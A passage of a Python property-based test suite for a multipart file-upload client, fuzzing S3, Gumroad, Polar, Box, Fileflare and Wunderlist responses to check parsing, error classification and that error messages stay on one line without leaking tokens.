        + el("Key", key)
        + el("UploadId", upload_id)
        + el("Initiated", when.strftime("%Y-%m-%dT%H:%M:%S.000Z"))
        + "</Upload>"
        for key, upload_id, when in uploads
    )
    listing = xml_doc("ListMultipartUploadsResult", el("IsTruncated", "false") + body, ns)
    part = list_parts_doc([(1, 7, f'"{MD5}"'), (2, 5, None)])

    def route(request: httpx.Request) -> Answer:
        return 200, (listing if "uploads" in request.url.params else part), {}

    found, _, _ = call_server(s3_provider, lambda p: p.list_uploads(), route)
    assert found == [
        RemoteUpload(
            key=key,
            upload_id=upload_id,
            initiated=float(calendar.timegm(when.timetuple())),
            parts=2,
            bytes=12,
        )
        for key, upload_id, when in uploads
    ]


@props(100)
@given(
    first=st.sampled_from([200, 500, 503]),
    body=st.one_of(
        st.builds(
            lambda loc: xml_doc(
                "CompleteMultipartUploadResult",
                el("Location", loc) + el("Bucket", "bucket") + el("Key", "k") + el("ETag", "e-2"),
            ),
            XML_TEXT,
        ),
        ERROR_DOCS,
    ),
)
def test_complete_reads_the_result_or_the_error_in_a_200(first: int, body: bytes) -> None:
    code, _ = s3xml.error_of(body)

    def route(request: httpx.Request) -> Answer:
        if request.method == "HEAD":
            return 404, b"", {}
        return first, body, {}

    parts = [a_part(1)]
    done, _, _ = call_server(s3_provider, lambda p: p.complete(s3_session(), parts), route)
    if first == 200 and b"<CompleteMultipartUploadResult" in body:
        assert done == "s3://bucket/dir/file.bin"
        return
    # An <Error> in a 200, even one without a Code, is not a result: never a success.
    assert isinstance(done, RemoteError)
    one_line(done)
    unclear = (None, "InternalError", "SlowDown", "ServiceUnavailable")  # complete-unknown
    if first == 200 and code not in unclear:
        assert isinstance(done, RejectedError) and done.code == code
    else:
        assert isinstance(done, CompleteUnknown)


S3_CALLS: dict[str, Callable[[s3.S3Provider], Awaitable[Any]]] = {
    "open": lambda p: p.open(s3_session({}), []),
    "list parts": lambda p: p.remote_parts(s3_session()),
    "list uploads": lambda p: p.list_uploads(),
    "complete": lambda p: p.complete(s3_session(), [a_part(1)]),
    "abort": lambda p: p.abort(s3_session()),
    "check": lambda p: p.check(),
}


@pytest.mark.parametrize("name", sorted(S3_CALLS))
@props(40)
@given(answers=st.lists(st.tuples(S3_STATUSES, XML_BODIES, st.just({})), min_size=1, max_size=4))
def test_s3_calls_on_hostile_answers_raise_only_remote_errors(
    name: str, answers: list[Answer]
) -> None:
    result, _, _ = call_server(s3_provider, S3_CALLS[name], script(answers), limit=120)
    if isinstance(result, UsageError):  # a store without ListMultipartUploads says so
        assert name == "list uploads" and {405, 501} & {status for status, _, _ in answers}
    if isinstance(result, RemoteError | UsageError):
        one_line(result)


# == RECEIPTS: every provider whose parts go to S3 ==========================================

RECEIPTS: dict[str, tuple[Callable[[httpx.AsyncClient], BaseProvider], Session]] = {
    "gumroad": (gumroad_provider, a_session("gumroad", {})),
    "polar": (polar_provider, a_session("polar", {})),
    "fileflare": (fileflare_provider, a_session("fileflare", {})),
    "wunderlist": (wunderlist_provider, a_session("wunderlist", {})),
    "s3": (s3_provider, s3_session()),
}


@pytest.mark.parametrize("name", sorted(RECEIPTS))
@props(100)
@given(status=S3_STATUSES, etag=ETAGS, body=XML_BODIES)
def test_part_answers_give_a_checked_receipt_or_one_clear_line(
    name: str, status: int, etag: str | None, body: bytes
) -> None:
    make, session = RECEIPTS[name]
    provider = make(NO_SERVER)
    try:
        receipt = provider.receipt(session, a_part(), s3_response(status, etag, body))
    except RemoteError as exc:
        text = one_line(exc)
        if isinstance(exc, TargetExpired) and name in ("gumroad", "polar", "fileflare"):
            assert "renew" in text  # these links cannot be renewed: say so
        return
    assert 200 <= status < 300
    assert etag is not None
    assert not receipt.verified or etag.strip().strip('"').lower() == MD5


# == GUMROAD ================================================================================


@props(130)
@given(
    url=JSON | HEADER_TEXT | st.sampled_from(["https://", "http://localhost:1/x", "https://[::1"])
)
@example(url=" https://bucket.s3.test/key?X-Amz-Date=20260101T000000Z ")  # found by a CI run
def test_gumroad_link_problem_accepts_only_https_or_loopback(url: Any) -> None:
    problem = gumroad.link_problem(url)
    if problem is None:
        parsed = httpx.URL(url)
        assert parsed.scheme == "https" or parsed.host in ("localhost", "127.0.0.1", "::1")
        assert parsed.host
    else:
        assert problem.startswith("has ")


@props(70)
@given(
    upload_id=st.text(min_size=1, max_size=30),
    key=st.text(min_size=1, max_size=60),
    count=st.integers(1, 5),
    file_url=st.none() | st.just("https://app.gumroad.test/f/abc?token=" + SIGNATURE),
)
def test_gumroad_presign_round_trips(
    upload_id: str, key: str, count: int, file_url: str | None
) -> None:
    urls = [f"https://s3.test/{i}?X-Amz-Signature={SIGNATURE}" for i in range(1, count + 1)]
    answer = {
        "success": True,
        "upload_id": upload_id,
        "key": key,
        "file_url": file_url,
        "parts": [{"part_number": n, "presigned_url": u} for n, u in enumerate(urls, 1)],
    }
    size = (count - 1) * gumroad.PART_SIZE + 1
    parts = [
        a_part(n, (n - 1) * gumroad.PART_SIZE, min(n * gumroad.PART_SIZE, size))
        for n in range(1, count + 1)
    ]
    session = a_session("gumroad", {}, size)
    opened, _, _ = call_server(
        gumroad_provider, lambda p: p.open(session, parts), script([(200, encode(answer), {})])
    )
    assert opened.remote["upload_id"] == upload_id and opened.remote["key"] == key
    assert [link["url"] for link in opened.remote["links"]] == urls
    assert {link["expires_at"] for link in opened.remote["links"]} == {1000.0 + 900}
    assert opened.location == ("https://app.gumroad.test/f/abc" if file_url else f"gumroad:{key}")


@props(130)
@given(
    status=st.sampled_from([200, 400, 401, 403, 404, 409, 410, 422]),
    field=st.sampled_from(["error", "message", "error_description"]),
    said=TOKEN_TEXT,
)
def test_gumroad_refusals_never_echo_a_token(status: int, field: str, said: str) -> None:
    body = encode({"success": False, field: said})
    result, _, _ = call_server(
        gumroad_provider,
        lambda p: p.open(a_session("gumroad", {}), [a_part()]),
        script([(status, body, {}), (200, encode({"success": True}), {})]),
    )
    assert isinstance(result, RejectedError)
    one_line(result, token=True)


# == POLAR ==================================================================================

FILE_ID = "3f1c2b1e-0000-4000-8000-000000000001"
ZONES = st.none() | st.integers(-23 * 60 - 59, 23 * 60 + 59).map(
    lambda m: timezone(timedelta(minutes=m))
)
MOMENTS = st.builds(
    lambda when, zone: when.replace(tzinfo=zone),
    st.datetimes(min_value=datetime(1971, 1, 2), max_value=datetime(9998, 12, 30)),
    ZONES,
)
"""Datetimes, naive (read as UTC) or at any offset."""


def unix(moment: datetime) -> float:
    return (moment if moment.tzinfo else moment.replace(tzinfo=UTC)).timestamp()


@props(130)
@given(
    data=JSON
    | st.builds(
        lambda i, u: {"id": i, "is_uploaded": u},
        st.sampled_from([FILE_ID, None, "other"]),
        JSON | st.just(True),
    )
)
def test_polar_file_read_accepts_only_this_file_uploaded(data: Any) -> None:
    try:
        polar.parse_file_read(data, FILE_ID, "complete")
    except TransientError as exc:
        one_line(exc)
        return
    assert data["is_uploaded"] is True and data.get("id") in (None, FILE_ID)


@st.composite
def polar_uploads(
    draw: st.DrawFn,
) -> tuple[dict[str, Any], list[Part], dict[int, str], dict[str, Any]]:
    sizes = draw(st.lists(st.integers(1, 10**10), min_size=1, max_size=6))
    parts: list[Part] = []
    start = 0
    for n, size in enumerate(sizes, 1):
        digest = draw(st.binary(min_size=32, max_size=32)).hex()
        parts.append(Part("s", n, start, start + size, sha256=digest))
        start += size
    checksums = {p.number: polar.b64_of_hex(p.sha256 or "") for p in parts}
    links = []
    for p in parts:
        moment = draw(MOMENTS)
        header = draw(st.sampled_from(["x-amz-checksum-sha256", "X-Amz-Checksum-Sha256"]))
        headers = {
            header: checksums[p.number],
            **draw(
                st.dictionaries(
                    st.sampled_from(["x-amz-sdk-checksum-algorithm", "content-type"]),
                    st.text(max_size=10),
                )
            ),
        }
        link = {
            "number": p.number,
            "chunk_start": p.start,
            "chunk_end": p.end,
            "url": f"https://s3.test/b/k?partNumber={p.number}&X-Amz-Signature={SIGNATURE}",
            "expires_at": moment.isoformat(),
            "headers": headers,
        }
        if draw(st.booleans()):
            link["checksum_sha256_base64"] = checksums[p.number]
        links.append((link, unix(moment)))
    order = draw(st.permutations(links))
    upload_id, path = draw(st.text(min_size=1, max_size=20)), draw(st.text(max_size=40))
    answer = {
        "id": FILE_ID,
        "name": draw(st.none() | st.text(max_size=20)),
        "organization_id": draw(st.none() | st.text(max_size=20)),
        "upload": {"id": upload_id, "path": path, "parts": [link for link, _ in order]},
    }
    want = {
        "file_id": FILE_ID,
        "upload_id": upload_id,
        "key": path,
        "organization_id": answer["organization_id"],
        "name": answer["name"],
        "parts": [
            {
                "number": link["number"],
                "url": link["url"],
                "expires_at": expires,
                "headers": link["headers"],
                "checksum_sha256_base64": checksums[link["number"]],
            }
            for link, expires in links
        ],
    }
    return answer, parts, checksums, want


@props(100)
@given(case=polar_uploads())
def test_polar_file_upload_round_trips(
    case: tuple[dict[str, Any], list[Part], dict[int, str], dict[str, Any]],
) -> None:
    answer, parts, checksums, want = case
    assert polar.parse_file_upload(json.loads(encode(answer)), parts, checksums) == want


POLAR_ERRORS = st.one_of(
    st.fixed_dictionaries(
        {},
        optional={
            "type": st.sampled_from(["ResourceNotFound", "NotPermitted", "insufficient_scope"])
            | TOKEN_TEXT,
            "detail": TOKEN_TEXT
            | st.lists(
                st.fixed_dictionaries(
                    {
                        "loc": st.lists(st.sampled_from(["body", "size"]) | TOKEN_TEXT, max_size=3),
                        "msg": TOKEN_TEXT,
                    }
                )
                | JSON,
                max_size=5,
            )
            | JSON,
            "error": TOKEN_TEXT,
            "error_description": TOKEN_TEXT | JSON,
        },
    ).map(encode),
    TOKEN_TEXT.map(str.encode),
    HOSTILE_BYTES,
)


@props(200)
@given(status=st.integers(300, 599), body=POLAR_ERRORS)
def test_polar_refusals_are_one_clear_line_without_secrets(status: int, body: bytes) -> None:
    with pytest.raises(RemoteError) as caught:
        polar.raise_for_polar(httpx.Response(status, content=body), "create file", TOKEN)
    one_line(caught.value, token=True)
    transient = status != 501 and (status >= 500 or status in (408, 429))
    assert isinstance(caught.value, TransientError) == transient
    assert isinstance(caught.value, CallUnsupported) == (status in (405, 501))


# == BOX ====================================================================================

BOX_ID = st.text(min_size=1, max_size=40)
COUNT = st.integers(0, 2**53)
SHA1S = (
    st.binary(min_size=20, max_size=20)
    .map(bytes.hex)
    .flatmap(lambda h: st.sampled_from([h, h.upper()]))
)


def box_part(part_id: str, offset: int, size: int, sha1: str) -> dict[str, Any]:
    return {"part_id": part_id, "offset": offset, "size": size, "sha1": sha1}


@props(130)
@given(
    id=BOX_ID,
    part_size=COUNT,
    total=COUNT,
    processed=COUNT,
    expires=st.none() | MOMENTS,
    extra=st.sets(st.sampled_from(["status", "log_event"])),
)
def test_box_sessions_round_trip(
    id: str,
    part_size: int,
    total: int,
    processed: int,
    expires: datetime | None,
    extra: set[str],
) -> None:
    endpoints = {
        n: f"https://upload.box.test/api/2.0/files/upload_sessions/X/{n}"
        for n in (*box._ENDPOINTS, *extra)
    }
    body = {
        "id": id,
        "type": "upload_session",
        "part_size": part_size,
        "total_parts": total,
        "num_parts_processed": processed,
        "session_endpoints": endpoints,
    }
    if expires is not None:
        body["session_expires_at"] = expires.isoformat()
    parsed = box.parse_session(encode(body))
    assert (parsed.id, parsed.part_size, parsed.total_parts) == (id, part_size, total)
    assert parsed.num_parts_processed == processed
    assert parsed.endpoints == endpoints
    assert parsed.expires_at == (None if expires is None else unix(expires))


@props(130)
@given(
    entries=st.lists(st.tuples(BOX_ID, COUNT, COUNT, SHA1S), max_size=6),
    total=COUNT,
    uploaded=st.tuples(BOX_ID, COUNT, COUNT, SHA1S),
    file=st.tuples(BOX_ID, st.text(min_size=1, max_size=60)),
)
def test_box_parts_and_commits_round_trip(
    entries: list[tuple[str, int, int, str]],
    total: int,
    uploaded: tuple[str, int, int, str],
    file: tuple[str, str],
) -> None:
    page = {"entries": [box_part(*e) for e in entries], "total_count": total, "limit": 1000}
    listed, count = box.parse_parts_page(encode(page))
    assert listed == [box.BoxPart(i, o, s, h.lower()) for i, o, s, h in entries]
    assert count == total
    got = box.parse_uploaded_part(encode({"part": box_part(*uploaded)}), "part 1")
    assert got == box.BoxPart(uploaded[0], uploaded[1], uploaded[2], uploaded[3].lower())
    committed = {"total_count": 1, "entries": [{"type": "file", "id": file[0], "name": file[1]}]}
    assert box.parse_committed(encode(committed)) == file


@props(200)
@given(value=JSON | MOMENTS.map(datetime.isoformat))
def test_box_times_are_read_or_none(value: Any) -> None:
    when = box.iso_time(value)
    assert when is None or math.isfinite(when)
    if isinstance(value, str) and len(value) <= 64:
        with contextlib.suppress(ValueError):
            assert when == unix(datetime.fromisoformat(value))


BOX_CODES = st.sampled_from(
    [
        "storage_limit_exceeded",
        "file_size_too_small",
        "digest_mismatch",
        "bad_digest",
        "range_overlaps_existing_part",
        "item_name_in_use",
        "conflict",
        "not_found",
        "session_expired",
    ]
)
BOX_ERRORS = st.one_of(
    st.fixed_dictionaries(
        {"type": st.just("error")},
        optional={
            "status": st.integers(),
            "code": BOX_CODES | SERVER_TEXT | JSON,
            "message": SERVER_TEXT | JSON,
            "request_id": st.text(max_size=20),
        },
    ).map(encode),
    HOSTILE_BYTES,
)


@props(200)
@given(status=st.integers(100, 599), body=BOX_ERRORS, name=st.none() | st.just("a.bin"))
def test_box_refusals_are_one_clear_line_without_secrets(
    status: int, body: bytes, name: str | None
) -> None:
    try:
        box.raise_for_box(httpx.Response(status, content=body), "commit", file_name=name)
    except RemoteError as exc:
        one_line(exc)
        code, _ = box.error_of(body)
        transient = (
            (status >= 500 and status != 501)
            or status in (408, 429)
            or (status == 400 and code == "bad_digest")
            or (status == 409 and code == "range_overlaps_existing_part")
        )
        assert isinstance(exc, TransientError) == transient
        assert isinstance(exc, CallUnsupported) == (status in (405, 501))
        return
    assert 200 <= status < 300


# == FILEFLARE ==============================================================================


@st.composite
def fileflare_answers(draw: st.DrawFn) -> tuple[dict[str, Any], int, list[dict[str, Any]]]:
    sizes = draw(st.lists(st.integers(1, 10**12), min_size=1, max_size=8))
    as_text = draw(st.booleans())  # PHP sends numbers as strings of digits

    def number(n: int) -> int | str:
        return str(n) if as_text else n

    links: list[dict[str, Any]] = []
    start = 0
    for n, size in enumerate(sizes, 1):
        signed = draw(st.datetimes(min_value=datetime(1971, 1, 1), max_value=datetime(9000, 1, 1)))
        lifetime = draw(st.none() | st.integers(1, 7 * 86_400))
        query = f"X-Amz-Date={signed.strftime('%Y%m%dT%H%M%SZ')}"
        if lifetime is not None:
            query += f"&X-Amz-Expires={lifetime}"
        url = f"https://minio.test/b/k?partNumber={n}&{query}&X-Amz-Signature={SIGNATURE}"
        expires = 1000.0 + fileflare.LINK_LIFETIME
        if lifetime is not None:
            expires = float(calendar.timegm(signed.timetuple()) + lifetime)
        links.append(
            {"part": n, "start": start, "end": start + size, "url": url, "expires_at": expires}
        )
        start += size
    answer = {
        "id": draw(st.integers(1, 10**9) | st.text(min_size=1, max_size=12).filter(str.strip)),
        "upload_id": draw(st.text(min_size=1, max_size=30).filter(str.strip)),
        "chunk_size": number(sizes[0]),
        "file_url": draw(st.none() | st.just("https://ff.test/f/1")),
        "urls": [
            {
                "part": number(x["part"]),
                "start": number(x["start"]),
                "end": number(x["end"]),
                "url": x["url"],
            }
            for x in draw(st.permutations(links))
        ],
    }
    return answer, start, links


@props(130)
@given(case=fileflare_answers())
def test_fileflare_signed_answers_round_trip(
    case: tuple[dict[str, Any], int, list[dict[str, Any]]],
) -> None:
    answer, size, links = case
    signed = fileflare.parse_signed(json.loads(encode(answer)), size, 1000.0)
    assert signed.asset_id == str(answer["id"]).strip()
    assert signed.upload_id == answer["upload_id"].strip()
    assert signed.links == links
    assert signed.ranges == [(x["start"], x["end"]) for x in links]
    assert signed.chunk_size == int(answer["chunk_size"])


@props(200)
@given(
    url=HEADER_TEXT
    | st.builds(
        lambda date, expires: f"https://minio.test/b/k?X-Amz-Date={date}&X-Amz-Expires={expires}",
        HEADER_TEXT | st.sampled_from(["20260101T000000Z", "99991231T235959Z", "00010101T000000Z"]),
        HEADER_TEXT
        | st.integers(0, 10**30).map(str)
        | st.just("9" * 5000)
        | st.just("1" + "0" * 400),
    )
)
def test_fileflare_link_expiry_is_always_a_time(url: str) -> None:
    when = fileflare.link_expiry(url, 1000.0)
    assert isinstance(when, float) and math.isfinite(when)


@props(130)
@given(
    field=st.sampled_from(["start", "end", "part"]),
    value=st.sampled_from(["9" * 5000, "1" + "0" * 400, "1" * 30, "١٢", "²"]),
)
def test_fileflare_huge_or_odd_numbers_are_refused_as_unusable(field: str, value: str) -> None:
    answer = {
        "id": 1,
        "upload_id": "u",
        "urls": [{"part": 1, "start": 0, "end": 5, "url": "https://h/x"}],
    }
    answer["urls"][0][field] = value
    with pytest.raises(fileflare.UnusableAnswer) as caught:
        fileflare.parse_signed(answer, 5, 0.0)
    one_line(caught.value)


FILEFLARE_ERRORS = st.one_of(
    st.fixed_dictionaries(
        {},
        optional={
            "message": SERVER_TEXT | JSON,
            "errors": st.dictionaries(
                SERVER_TEXT, st.lists(SERVER_TEXT, max_size=2) | JSON, max_size=6
            )
            | JSON,
        },
    ).map(encode),
    HOSTILE_BYTES,
)


@props(200)
@given(
    status=st.integers(300, 599),
    body=FILEFLARE_ERRORS,
    wait=st.none() | HEADER_TEXT | st.sampled_from(["inf", "1e300", "nan", "5", "-inf"]),
)
def test_fileflare_refusals_are_one_clear_line_without_secrets(
    status: int, body: bytes, wait: str | None
) -> None:
    headers = {} if wait is None else {"Retry-After": wait}
    error = fileflare.error_for(httpx.Response(status, content=body, headers=headers), "open")
    one_line(error)
    transient = status != 501 and (status >= 500 or status in (408, 429))
    assert isinstance(error, TransientError) == transient
    assert isinstance(error, CallUnsupported) == (status in (405, 501))
    if isinstance(error, TransientError) and error.retry_after is not None:
        assert math.isfinite(error.retry_after)


# == WUNDERLIST =============================================================================


@props(130)
@given(
    id=st.integers(0, 10**15) | st.from_regex(r"[A-Za-z0-9_-]{1,64}", fullmatch=True),
    number=st.integers(1, 10_000),
    numbered=st.booleans(),
    signed=st.datetimes(min_value=datetime(1971, 1, 2), max_value=datetime(9998, 1, 1)).map(
        lambda d: d.replace(microsecond=0)
    ),
    expires=st.none() | MOMENTS,
    md5=st.none() | st.just(MD5),
    user=st.none() | st.integers(0, 10**9) | st.from_regex(r"[A-Za-z0-9]{1,20}", fullmatch=True),
    state=st.none() | st.sampled_from(["new", "finished"]),
)
def test_wunderlist_uploads_round_trip(
    id: int | str,
    number: int,
    numbered: bool,
    signed: datetime,
    expires: datetime | None,
    md5: str | None,
    user: int | str | None,
    state: str | None,
) -> None:
    url = f"https://s3.test/b/k?uploadId=u&Signature={SIGNATURE}"
    if numbered:
        url += f"&partNumber={number}"
    date = email.utils.format_datetime(signed.replace(tzinfo=UTC), usegmt=True)
    body: dict[str, Any] = {
        "id": id,
        "user_id": user,
        "state": state,
        "part": {"url": url, "date": date, "authorization": f"AWS AKIDEXAMPLE:{SIGNATURE}"},
    }
    if expires is not None:
        body["expires_at"] = expires.isoformat()
    answer = wunderlist.parse_upload(json.loads(encode(body)), "part credentials", number, md5)
    assert answer.id == str(id)
    assert answer.user_id == (None if user is None else str(user))
    assert answer.state == state
    want_expiry = unix(expires) if expires is not None else unix(signed) + 900
    assert answer.part == wunderlist.PartCredentials(
        number, url, date, f"AWS AKIDEXAMPLE:{SIGNATURE}", want_expiry, md5
    )
    assert (
        wunderlist.PartCredentials.from_remote(json.loads(encode(answer.part.as_remote())))
        == answer.part
    )


WUNDERLIST_ERRORS = st.one_of(
    st.fixed_dictionaries(
        {},
        optional={
            "error": st.dictionaries(
                st.sampled_from(["type", "translation_key", "message", "file_size"]) | SERVER_TEXT,
                SERVER_TEXT | st.lists(SERVER_TEXT, max_size=3) | JSON,
                max_size=5,
            )
            | JSON,
            "errors": st.lists(SERVER_TEXT | JSON, max_size=3) | JSON,
        },
    ).map(encode),
    HOSTILE_BYTES,
)


@props(200)
@given(status=st.integers(300, 599), body=WUNDERLIST_ERRORS)
def test_wunderlist_refusals_are_one_clear_line_without_secrets(status: int, body: bytes) -> None:
    error = wunderlist.error_for(httpx.Response(status, content=body), "create upload")
    one_line(error)
    transient = status != 501 and (status >= 500 or status in (408, 429))
    assert isinstance(error, TransientError) == transient
    assert isinstance(error, CallUnsupported) == (status in (405, 501))


# == HOSTILE CALLS: each provider's other answers (check, complete...) =======================

CALLS: dict[str, tuple[Callable[[httpx.AsyncClient], Any], Callable[[Any], Awaitable[Any]]]] = {
    "polar check": (polar_provider, lambda p: p.check()),
    "polar complete": (
        polar_provider,
        lambda p: p.complete(
            a_session("polar", {"file_id": FILE_ID, "upload_id": "u", "key": "k", "parts": []}),
            [a_part()],
        ),
    ),
    "box check": (box_provider, lambda p: p.check()),
    "fileflare check": (fileflare_provider, lambda p: p.check()),
    "fileflare complete": (
        fileflare_provider,
        lambda p: p.complete(
            a_session("fileflare", {"asset_id": "a1", "upload_id": "u1"}), [a_part()]
        ),
    ),
    "wunderlist check": (wunderlist_provider, lambda p: p.check()),
    "wunderlist finish": (
        wunderlist_provider,
        lambda p: p.complete(a_session("wunderlist", {"upload_id": "7"}), [a_part()]),
    ),
    "gumroad check": (gumroad_provider, lambda p: p.check()),
}
STATUSES = st.sampled_from([200, 201, 202, 204, 400, 401, 403, 404, 409, 422, 429, 500, 503])


@pytest.mark.parametrize("name", sorted(CALLS))
@props(40)
@given(
    answers=st.lists(
        st.tuples(
            STATUSES,
            HOSTILE_BYTES,
            st.sampled_from([{}, {"Retry-After": "inf"}, {"Retry-After": "1e300"}]),
        ),
        min_size=1,
        max_size=4,
    )
)
def test_other_calls_on_hostile_answers_raise_only_remote_errors(
    name: str, answers: list[Answer]
) -> None:
    make, call = CALLS[name]
    result, _, _ = call_server(make, call, script(answers), limit=60)
    if isinstance(result, RemoteError):
        one_line(result)
    else:
        assert result is None or isinstance(result, str)
        assert "\n" not in (result or "")
